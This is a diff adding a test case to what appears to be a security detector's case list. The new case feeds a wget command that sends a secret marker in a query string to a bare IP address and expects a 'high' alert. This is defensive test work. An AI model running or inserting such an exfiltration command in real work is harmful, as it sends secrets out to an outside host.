@@ -40,6 +40,13 @@ export const cases: readonly DetectorCase[] = [
     expected: 'low',
   },
   {
+    name: 'A secret goes in the query of an address without a name',
+    kind: 'hit',
+    history: [],
+    activity: started(AT, `wget -qO- http://203.0.113.94/?k=${MARKER}`),
+    expected: 'high',
+  },
+  {
     name: 'The job signs in as it does every day',
     kind: 'near-miss',
     history: Array.from({ length: 20 }, (_, day) => started(AT - (30 - day) * DAY, SIGN_IN)),
